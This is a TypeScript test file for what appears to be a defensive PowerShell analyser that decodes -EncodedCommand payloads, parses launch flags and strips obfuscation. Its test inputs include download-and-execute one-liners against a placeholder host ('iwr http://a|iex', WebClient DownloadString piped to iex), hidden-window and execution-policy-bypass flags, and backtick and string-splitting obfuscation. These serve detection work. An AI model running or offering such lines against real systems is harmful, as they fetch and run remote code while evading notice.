import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cpuMs } from '../../../test/cpu-time.ts'
import { decodedPowerShell, powershellOptions } from './powershell.ts'
import { plainPowerShell, powershellCommands } from './powershell-code.ts'

const encoded = (code: string) => Buffer.from(code, 'utf16le').toString('base64')
const WHOAMI = encoded('whoami')

describe('powershellOptions', () => {
  it.each([
    `-e ${WHOAMI}`,
    `-ec ${WHOAMI}`,
    `-en ${WHOAMI}`,
    `-ENC ${WHOAMI}`,
    `-encodedcommand ${WHOAMI}`,
    `/e ${WHOAMI}`,
    `--enc ${WHOAMI}`,
    `\u2013enc ${WHOAMI}`,
    `\u2015e ${WHOAMI}`,
    `-NoP -NonI -w Hidden -ep bypass -enc ${WHOAMI}`,
    `-ex bypass -o Text -e ${WHOAMI} more`,
  ])('decodes %s', line => {
    expect(powershellOptions(line.split(' '))).toMatchObject({ code: 'whoami', encoded: true })
  })

  it.each([
    ['-c whoami /all', 'whoami /all'],
    ['-Command whoami', 'whoami'],
    ['whoami /all', 'whoami /all'],
    ['-NoProfile whoami -c', 'whoami -c'],
    ['-ex bypass -com a b', 'a b'],
    ['-ea abc -c whoami', 'whoami'],
    ['-File C:\\a.ps1 -enc x', null],
    ['-noexit', null],
    ['-ep bypass', null],
    ['-enc', null],
    ['-enc !!', null],
    ['', null],
  ])('%s runs %j as it stands', (line, code) => {
    const args = line.split(' ').filter(word => word !== '')
    expect(powershellOptions(args)).toMatchObject({ code, encoded: false })
  })

  it('reads the other parameters', () => {
    const args = [
      '-NoP',
      '-NonInteractive',
      '-W',
      'Hidden',
      '-ExecutionPolicy',
      'Bypass',
      '-File',
      'a.ps1',
      '-c',
    ]
    expect(powershellOptions(args)).toEqual({
      code: null,
      encoded: false,
      file: 'a.ps1',
      noProfile: true,
      nonInteractive: true,
      hidden: true,
      executionPolicy: 'bypass',
    })
    expect(powershellOptions(['-noni', '-w', 'normal'])).toMatchObject({
      noProfile: false,
      nonInteractive: true,
      hidden: false,
      executionPolicy: '',
    })
  })
})

describe('decodedPowerShell', () => {
  it('gives back whatever was encoded, with padding or without', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', minLength: 1, maxLength: 30 }), code => {
        // A byte order mark in front is no part of the text.
        if (code.startsWith('\ufeff')) return
        expect(decodedPowerShell(encoded(code))).toBe(code)
        expect(decodedPowerShell(encoded(code).replace(/=+$/, ''))).toBe(code)
      }),
    )
  })

  it.each(['', '=', 'a', 'abc!', 'YQ==', 'é', 'AAAA='.repeat(3)])('%j is nothing', text => {
    expect(decodedPowerShell(text)).toBeNull()
  })

  it('reads no more than a command line can hold', () => {
    expect(decodedPowerShell('A'.repeat(65_536))).toHaveLength(24_576)
    expect(decodedPowerShell('A'.repeat(65_540))).toBeNull()
  })
})

describe('powershellCommands', () => {
  const words = (code: string) =>
    powershellCommands(code).map(
      ({ name, args, piped }) => `${piped ? '| ' : ''}${[name, ...args].join(' ')}`,
    )

  it.each<[string, string[]]>([
    ['', []],
    ['Get-Process', ['get-process']],
    ['iwr http://a|iex', ['invoke-webrequest http://a', '| invoke-expression']],
    ["$c = i`wr 'a b'; $c | & iex", ['invoke-webrequest a b', '$c', '| invoke-expression']],
    ['$x=iwr a', ['invoke-webrequest a']],
    [". 'C:\\a b\\x.exe' -y", ['x -y']],
    ['& "iex" a', ['invoke-expression a']],
    ['C:\\Windows\\System32\\net.exe user', ['net user']],
    ['curl.exe http://a', ['curl http://a']],
    ['if ($a) { iex $b } # iex c', ['if', '$a', 'invoke-expression $b']],
    ['<# iex a #> ls', ['get-childitem']],
    ["echo 'it''s; iex'", ["write-output it's; iex"]],
    ['echo "a `" b"', ['write-output a " b']],
    ['a\nb\r\nc', ['a', 'b', 'c']],
    ['a || b && c', ['a', 'b', 'c']],
    ["'open", ['open']],
    [
      '(New-Object Net.WebClient).DownloadString("http://a") | iex',
      ['new-object Net.WebClient', '.downloadstring', 'a', '| invoke-expression'],
    ],
  ])('%s', (code, expected) => {
    expect(words(code)).toEqual(expected)
  })

  it('shows what backticks and joined strings hide', () => {
    expect(plainPowerShell("('I'+'E' + 'X') `Do`wnload")).toBe("('iex') download")
  })
})

it.each([
  'a',
  ' ',
  '`',
  "'",
  '"',
  ';',
  '|',
  '<#',
  '#',
  '$x=',
  '$x = ',
  "'+'",
  '+ ',
  '(',
  'A',
  '=',
  '-e ',
  '\u2013',
])('is done with 10,000 characters of %j in no time', piece => {
  const hostile = piece.repeat(Math.ceil(10_000 / piece.length))
  const args = hostile.split(' ')
  const ms = cpuMs(() => {
    powershellCommands(hostile)
    plainPowerShell(hostile)
    decodedPowerShell(hostile)
    powershellOptions(args)
  })
  expect(ms).toBeLessThan(5)
})
